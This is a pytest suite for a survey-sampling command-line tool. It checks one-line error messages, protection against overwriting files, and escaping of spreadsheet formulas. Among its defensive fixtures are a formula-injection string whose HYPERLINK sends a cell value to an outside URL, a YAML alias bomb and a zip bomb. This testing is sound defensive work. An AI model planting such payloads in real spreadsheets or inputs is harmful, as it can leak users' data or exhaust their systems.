"""Issue 14: every bad input gets its one-line error (exit 2) and no command destroys the user's data.

Each test writes the damaged input from a good one, runs the real command, and checks the exit
status, that the message is one line naming the path/field, and that nothing was written or lost.
"""

from __future__ import annotations

import os
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from survmig.errors import SurvmigError
from survmig.fileio import (
    OUTPUT_MARKER,
    atomic_dir,
    atomic_path,
    check_output_dir,
    check_output_file,
)
from survmig.tableio import excel_writer, spreadsheet_safe, write_table

INJECTION = '=HYPERLINK("http://example.com/?x="&A1,"click")'


def one_line_error(result, *needles: str) -> str:
    """The CLI failed as a user error: exit 2, one line on stderr, no traceback, naming ``needles``."""
    assert result.exit_code == 2, result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: "), result.stderr
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


@pytest.fixture
def survey(tmp_path):
    """A small one-stage survey table (stratum, weight, two numbers, a label) as CSV."""
    path = tmp_path / "survey.csv"
    pd.DataFrame(
        {
            "stratum": ["a", "a", "a", "b", "b", "b"],
            "w": [2.0, 3.0, 1.0, 2.0, 4.0, 1.0],
            "y": [1.0, 2.0, 5.0, 4.0, 3.0, 2.0],
            "x": [1.0, 1.0, 2.0, 2.0, 1.0, 3.0],
            "label": ["one", "two", INJECTION, "-2+3", "@SUM(A1)", "ok"],
        }
    ).to_csv(path, index=False)
    return path


# --------------------------------------------------------------------------- 1. output paths


@pytest.mark.parametrize(
    "args",
    [
        ["sample-size", "--proportion", "0.1", "--margin", "0.02", "-o", "{out}"],
        ["allocate", "{strata}", "--method", "neyman", "--n", "50", "-o", "{out}"],
        ["simulate", "--reps", "2", "-o", "{out}"],
    ],
    ids=["sample-size", "allocate", "simulate"],
)
@pytest.mark.parametrize("shape", ["folder", "below-a-file", "unwritable"])
def test_output_path_problems_are_checked_before_the_work(
    run_cli, tmp_path, args, shape, monkeypatch
):
    strata = tmp_path / "strata.csv"
    pd.DataFrame({"stratum": ["A", "B"], "N": [1000, 2000], "sd": [2.0, 3.0]}).to_csv(
        strata, index=False
    )
    suffix = ".json" if args[0] == "sample-size" else ".csv"
    if shape == "folder":
        out = tmp_path / f"taken{suffix}"
        out.mkdir()
        needle = "is a folder"
    elif shape == "below-a-file":
        out = strata / f"out{suffix}"
        needle = "inside the file"
    else:
        locked = tmp_path / "locked"
        locked.mkdir()
        out = locked / f"out{suffix}"
        real_access = os.access
        monkeypatch.setattr(
            os, "access", lambda p, m: False if str(p) == str(locked) else real_access(p, m)
        )
        needle = "not writable"
    argv = [a.format(out=out, strata=strata) for a in args]
    result = run_cli(*argv)
    one_line_error(result, str(out), needle)
    assert result.stdout == ""  # refused before computing or printing anything


def test_os_errors_of_the_atomic_writers_are_user_errors(tmp_path, monkeypatch):
    import tempfile

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with (
        pytest.raises(SurvmigError, match="out.csv: cannot write the output: permission denied"),
        atomic_path(tmp_path / "out.csv"),
    ):
        pass
    monkeypatch.setattr(tempfile, "mkdtemp", refuse)
    with (
        pytest.raises(SurvmigError, match="outdir: cannot write the output"),
        atomic_dir(tmp_path / "outdir"),
    ):
        pass


# --------------------------------------------------------------------------- 2. inputs are safe


def test_estimate_never_replaces_its_input(run_cli, survey):
    before = survey.read_bytes()
    result = run_cli("estimate", survey, "--weight", "w", "--mean", "y", "-o", survey)
    one_line_error(result, "the output is the input")
    assert survey.read_bytes() == before


def test_no_output_contains_or_enters_an_input_folder(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "household.csv").write_text("a\n1\n")
    with pytest.raises(SurvmigError, match="contains the input"):
        check_output_dir(data, inputs=[data / "household.csv"])
    with pytest.raises(SurvmigError, match="lies inside the input folder"):
        check_output_file(data / "out.csv", inputs=[data])


def test_an_output_folder_with_a_file_survmig_did_not_write_is_never_replaced(tmp_path):
    out = tmp_path / "out"
    with atomic_dir(out) as tmp:
        (tmp / "table.csv").write_text("x\n")
    assert "- table.csv" in (out / OUTPUT_MARKER).read_text()
    (out / "my_notes.txt").write_text("mine")  # the user adds a file to the earlier output
    with (
        pytest.raises(SurvmigError, match=r"did not write \(my_notes.txt\)"),
        atomic_dir(out) as tmp,
    ):
        (tmp / "table.csv").write_text("y\n")
    assert (out / "my_notes.txt").read_text() == "mine"
    assert (out / "table.csv").read_text() == "x\n"
    (out / "my_notes.txt").unlink()
    with atomic_dir(out) as tmp:  # our own files only: replaced as before
        (tmp / "table.csv").write_text("y\n")
    assert (out / "table.csv").read_text() == "y\n"


# --------------------------------------------------------------------------- 3./4. accepted or crashed


def test_duplicate_key_in_design_yaml(run_cli, survey, tmp_path):
    design = tmp_path / "design.yaml"
    design.write_text("strata: stratum\nweights: w\nstrata: y\n")
    one_line_error(
        run_cli("estimate", survey, "--design", design, "--mean", "y"),
        "design.yaml:3",
        "duplicate key 'strata'",
    )


def test_yaml_alias_bomb_is_refused(run_cli, survey, tmp_path):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev, name = chr(ord("a") + i - 1), chr(ord("a") + i)
        lines.append(f"{name}: &{name} [{','.join(['*' + prev] * 9)}]")
    design = tmp_path / "design.yaml"
    design.write_text("weights: w\nbomb: " + "\n".join(lines).replace("\n", "\n  ") + "\n")
    one_line_error(
        run_cli("estimate", survey, "--design", design, "--mean", "y"), "design.yaml", "alias"
    )


def test_ratio_with_a_zero_denominator(run_cli, survey, tmp_path):
    frame = pd.read_csv(survey).assign(x=lambda d: np.where(d["stratum"] == "a", 0.0, d["x"]))
    path = tmp_path / "zero.csv"
    frame.to_csv(path, index=False)
    one_line_error(
        run_cli("estimate", path, "--weight", "w", "--ratio", "y/x", "--by", "stratum"),
        "denominator 'x'",
        "stratum='a'",
    )


def test_empty_domain_hint_names_the_cli_option(run_cli, survey):
    from survmig.design import SurveyDesign
    from survmig.estimation import estimate

    frame = pd.read_csv(survey)
    frame["g"] = pd.Categorical(frame["stratum"], categories=["a", "b", "c"])
    with pytest.raises(SurvmigError, match="--keep-empty"):
        estimate(SurveyDesign(frame, weights="w"), mean="y", by="g")


@pytest.mark.parametrize(
    ("param", "needle"),
    [("recent_years=-5", "between 0 and 100"), ("recent_years=abc", "must be a number")],
)
def test_indicator_parameters_are_checked(param, needle):
    from survmig.estimation.commands import parse_parameters
    from survmig.indicators.catalogue import load_catalogue

    with pytest.raises(SurvmigError, match=needle):
        load_catalogue().resolve_parameters(parse_parameters((param,)))
    assert load_catalogue().resolve_parameters({"recent_years": 10})["recent_years"] == 10


def test_raking_margins_whose_totals_disagree(tmp_path):
    from survmig.weighting.pipeline import run_steps
    from survmig.weighting.spec import load_steps

    data = pd.DataFrame(
        {"sex": ["m", "f"] * 10, "age": ["young"] * 10 + ["old"] * 10, "w": np.ones(20)}
    )
    (tmp_path / "sex.csv").write_text("sex,total\nm,500\nf,500\n")
    (tmp_path / "age.csv").write_text("age,total\nyoung,400\nold,700\n")  # 1100, not 1000
    steps = tmp_path / "steps.yaml"
    steps.write_text(
        "steps:\n- step: rake\n  margins:\n  - {by: sex, totals: sex.csv}\n"
        "  - {by: age, totals: age.csv}\n"
    )
    with pytest.raises(SurvmigError, match="margins do not add up to the same population"):
        run_steps(data, load_steps(steps), weights=data["w"].to_numpy())


def test_duplicate_household_in_design_data(tmp_path):
    from survmig.estimation.commands import read_design_data

    households = pd.DataFrame({"KEY": ["uuid:1", "uuid:2"], "region": [1, 2]})
    path = tmp_path / "weighted.csv"
    pd.DataFrame({"KEY": ["uuid:1", "uuid:2", "uuid:1"], "weight": [10.0, 20.0, 99.0]}).to_csv(
        path, index=False
    )
    with pytest.raises(SurvmigError, match="household uuid:1 is on rows 1 and 3"):
        read_design_data(path, households)


def test_duplicate_stratum_in_allocate_and_select(run_cli, tmp_path):
    strata = tmp_path / "strata.csv"
    pd.DataFrame({"stratum": ["A", "B", "A"], "N": [1000, 2000, 500], "sd": [2, 3, 1]}).to_csv(
        strata, index=False
    )
    one_line_error(
        run_cli("allocate", strata, "--method", "neyman", "--n", "100"),
        "strata.csv",
        "stratum 'A' is given twice",
    )
    frame = tmp_path / "frame.csv"
    pd.DataFrame({"id": range(8), "stratum": ["A"] * 8}).to_csv(frame, index=False)
    alloc = tmp_path / "alloc.csv"
    pd.DataFrame({"stratum": ["A", "A"], "n": [5, 3]}).to_csv(alloc, index=False)
    out = tmp_path / "sample.csv"
    one_line_error(
        run_cli(
            "select", frame, "--method", "srs", "--strata", "stratum", "--allocation", alloc,
            "--seed", "1", "-o", out,
        ),
        "alloc.csv",
        "given twice",
    )  # fmt: skip
    assert not out.exists()


def test_two_phase_budget_that_buys_no_interview(run_cli, tmp_path):
    classes = tmp_path / "classes.csv"
    pd.DataFrame(
        {"stratum": ["migrant", "other"], "share": [0.05, 0.95], "sd": [1, 1], "mean": [5, 1],
         "cost": [50, 50]}
    ).to_csv(classes, index=False)  # fmt: skip
    one_line_error(
        run_cli(
            "allocate", classes, "--method", "two-phase", "--budget", "10", "--phase1-cost", "2"
        ),
        "buys no phase-2 interview",
    )
    ok = run_cli(
        "allocate", classes, "--method", "two-phase", "--budget", "50000", "--phase1-cost", "2"
    )
    assert ok.exit_code == 0, ok.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["select", "{frame}", "--method", "srs", "--n", "2", "--seed", "-1", "-o", "{out}"],
        ["simulate", "--reps", "2", "--seed", "-1"],
        ["simulate", "--reps", "2", "--population-seed", "-1"],
        ["demo", "{out_dir}", "--seed", "-1"],
    ],
    ids=["select", "simulate", "simulate-population", "demo"],
)
def test_negative_seed(run_cli, tmp_path, args):
    frame = tmp_path / "frame.csv"
    pd.DataFrame({"id": range(8)}).to_csv(frame, index=False)
    argv = [a.format(frame=frame, out=tmp_path / "s.csv", out_dir=tmp_path / "demo") for a in args]
    one_line_error(run_cli(*argv), "seed", "≥ 0")
    assert not (tmp_path / "s.csv").exists() and not (tmp_path / "demo").exists()


def test_ea_size_zero(run_cli):
    one_line_error(run_cli("simulate", "--reps", "2", "--ea-size", "0"), "--ea-size")


def test_zip_bomb_member_is_refused(tmp_path):
    from survmig.data import ziplimits

    archive = tmp_path / "submissions.csv.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("hh.csv", "KEY,a\n" + "0" * (40 * 1024**2))  # 40 MB of zeros, ~40 KB zipped
        zf.writestr("ok.csv", "KEY,a\nuuid:1,2\n")
    with zipfile.ZipFile(archive) as zf:
        with pytest.raises(SurvmigError, match=r"submissions.csv.zip:hh.csv: .*zip bomb"):
            ziplimits.read_member(zf, "hh.csv", archive)
        assert ziplimits.read_member(zf, "ok.csv", archive).startswith(b"KEY")


def test_zip_member_lying_about_its_size_is_a_damaged_member(tmp_path):
    from survmig.data import ziplimits

    archive = tmp_path / "x.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("big.csv", b"1" * (3 * 1024**2))
    with zipfile.ZipFile(archive) as zf:
        zf.getinfo("big.csv").file_size = 10  # the header lies: reading stops there, CRC fails
        with pytest.raises(SurvmigError, match="x.zip:big.csv: damaged zip member"):
            ziplimits.read_member(zf, "big.csv", archive)


# --------------------------------------------------------------------------- 6. formula injection


def _text_cells(path):
    wb = openpyxl.load_workbook(path)
    return {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row}


def test_estimate_xlsx_keeps_text_as_text(run_cli, survey, tmp_path):
    out = tmp_path / "est.xlsx"
    result = run_cli("estimate", survey, "--weight", "w", "--prop", "label", "-o", out, "--no-deff")
    assert result.exit_code == 0, result.stderr
    cells = _text_cells(out)
    assert cells[INJECTION] == "s" and cells["@SUM(A1)"] == "s"
    assert "f" not in cells.values()


def test_select_xlsx_keeps_text_as_text(run_cli, survey, tmp_path):
    out = tmp_path / "sample.xlsx"
    result = run_cli("select", survey, "--method", "srs", "--n", "6", "--seed", "3", "-o", out)
    assert result.exit_code == 0, result.stderr
    cells = _text_cells(out)
    assert cells[INJECTION] == "s" and "f" not in cells.values()


def test_every_workbook_writer_is_the_shared_one(tmp_path):
    """No module writes .xlsx except through tableio (so text always stays text)."""
    from pathlib import Path

    import survmig

    src = Path(survmig.__file__).parent
    offenders = [
        str(p.relative_to(src))
        for p in src.rglob("*.py")
        if p.name != "tableio.py"
        and (
            "pd.ExcelWriter(" in (text := p.read_text(encoding="utf-8"))
            or ".to_excel(tmp" in text
            or (".save(" in text and "Workbook()" in text and "text_cells_as_text" not in text
                and "save_workbook" not in text)
        )
    ]  # fmt: skip
    assert offenders == []


def test_xlsform_labels_starting_with_equals_stay_text(tmp_path):
    from survmig.formtest.sheets import write_xlsform

    path = write_xlsform(
        tmp_path / "f.xlsx",
        [{"type": "text", "name": "q", "label": "=1+1"}],
        settings={"form_id": "f"},
    )
    assert _text_cells(path)["=1+1"] == "s"


def test_indicators_workbook_and_report_csv(tmp_path):
    from survmig.indicators import compute
    from survmig.report import write_csv, write_excel
    from tests.indicators.survey import RATES, build_survey

    ds, design = build_survey()
    res = compute(ds, design, ["emigrants_by_destination"], rates=RATES)
    res.table["category_label"] = INJECTION
    write_excel(res, tmp_path / "indicators.xlsx")
    cells = _text_cells(tmp_path / "indicators.xlsx")
    assert cells[INJECTION] == "s" and "f" not in cells.values()
    write_csv(res, tmp_path / "indicators.csv")  # for spreadsheets: escaped by default
    table = pd.read_csv(tmp_path / "indicators.csv")
    assert (table["category_label"] == "'" + INJECTION).all()
    write_csv(res, tmp_path / "exact.csv", spreadsheet_safe=False)
    assert (pd.read_csv(tmp_path / "exact.csv")["category_label"] == INJECTION).all()


def test_spreadsheet_safe_follows_owasp_and_leaves_numbers():
    frame = pd.DataFrame(
        {"t": ["=1", "+1", "-1", "@x", "\tx", "\rx", "plain", None], "n": [-1, 2, 3, 4, 5, 6, 7, 8]}
    )
    safe = spreadsheet_safe(frame)
    assert safe["t"].tolist()[:7] == ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "plain"]
    assert pd.isna(safe["t"].iloc[7])
    assert safe["n"].tolist() == frame["n"].tolist()
    assert frame["t"].iloc[0] == "=1"  # the input is untouched


def test_estimate_csv_spreadsheet_safe_option(run_cli, survey, tmp_path):
    exact, safe = tmp_path / "exact.csv", tmp_path / "safe.csv"
    for out, extra in ((exact, []), (safe, ["--spreadsheet-safe"])):
        result = run_cli(
            "estimate", survey, "--weight", "w", "--prop", "label", "--no-deff", "-o", out, *extra
        )
        assert result.exit_code == 0, result.stderr
    assert INJECTION in pd.read_csv(exact)["category"].tolist()
    assert "'" + INJECTION in pd.read_csv(safe)["category"].tolist()


def test_excel_writer_leaves_nothing_when_the_block_fails(tmp_path):
    target = tmp_path / "x.xlsx"
    with pytest.raises(RuntimeError, match="boom"), excel_writer(target) as writer:
        pd.DataFrame({"a": [1]}).to_excel(writer, index=False)
        raise RuntimeError("boom")  # the real error, not openpyxl's "no visible sheet"
    assert list(tmp_path.iterdir()) == []
    write_table(pd.DataFrame({"a": ["=2"]}), target)
    assert _text_cells(target)["=2"] == "s"


# --------------------------------------------------------------------------- 8. messages


def test_ragged_row_duplicate_column_and_encoding_messages(run_cli, survey, tmp_path):
    good = survey.read_text().splitlines()
    ragged = tmp_path / "ragged.csv"
    ragged.write_text("\n".join([good[0], good[1], good[2] + ",extra", *good[3:]]) + "\n")
    one_line_error(
        run_cli("estimate", ragged, "--weight", "w", "--mean", "y"),
        "ragged.csv:3",
        "data row 2 has 6 fields but the header has 5",
    )
    dup = tmp_path / "dup.csv"
    dup.write_text("\n".join([good[0].replace("x", "y")] + good[1:]) + "\n")
    one_line_error(
        run_cli("estimate", dup, "--weight", "w", "--mean", "y"),
        "column 'y' appears twice",
    )
    latin = tmp_path / "latin.csv"
    latin.write_bytes(survey.read_bytes().replace(b"one", "caf\u00e9".encode("latin-1")))
    one_line_error(
        run_cli("estimate", latin, "--weight", "w", "--mean", "y"),
        "latin.csv:2",
        "not valid utf-8",
        "data row 1",
    )


def test_sampling_messages_show_plain_numbers(run_cli, tmp_path):
    frame = tmp_path / "frame.csv"
    pd.DataFrame({"id": range(4), "stratum": ["A", "A", "B", "B"]}).to_csv(frame, index=False)
    alloc = tmp_path / "alloc.csv"
    pd.DataFrame({"stratum": ["A", "B"], "n": [1, -1]}).to_csv(alloc, index=False)
    line = one_line_error(
        run_cli(
            "select", frame, "--method", "srs", "--strata", "stratum", "--allocation", alloc,
            "--seed", "1", "-o", tmp_path / "s.csv",
        ),
        "got -1",
    )  # fmt: skip
    assert "np." not in line


def test_undefined_design_effect_is_blank_not_inf(run_cli, tmp_path):
    """A variable constant in its domain has no SRS variance: R prints deff Inf, we leave it blank
    (the demo's indicators.csv had 65 rows of `inf`)."""
    from survmig.design import SurveyDesign
    from survmig.estimation import estimate

    frame = pd.DataFrame(
        {"s": ["a", "a", "a", "b", "b", "b"], "w": [2.0, 3.0, 1.0, 4.0, 1.0, 2.0], "one": 1.0}
    )
    frame["y"] = [1.0, 2.0, 4.0, 3.0, 5.0, 1.0]
    table = estimate(SurveyDesign(frame, strata="s", weights="w"), total=["one", "y"])
    one = table[table["variable"] == "one"]
    assert one["se"].iloc[0] > 0 and one["deff"].isna().all()
    assert np.isfinite(table.loc[table["variable"] == "y", "deff"]).all()
